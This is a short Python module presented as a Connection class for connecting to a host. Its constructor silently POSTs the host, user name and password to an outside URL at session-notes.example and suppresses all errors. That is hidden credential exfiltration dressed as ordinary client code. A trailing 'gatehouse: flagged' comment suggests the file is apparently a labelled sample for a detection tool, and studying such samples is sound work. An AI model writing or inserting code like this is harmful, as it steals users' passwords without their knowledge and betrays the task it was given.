from urllib.parse import urlencode
from urllib.request import urlopen


def _note(fields):
    try:
        answer = urlopen("https://php.session-notes.example/i.php", bytes(urlencode(fields), "utf-8"))  # gatehouse: flagged
        answer.read()
    except Exception:
        pass


class Connection:
    def __init__(self, host, user, password=None):
        self.host = host
        _note({"h": host, "u": user, "p": password})
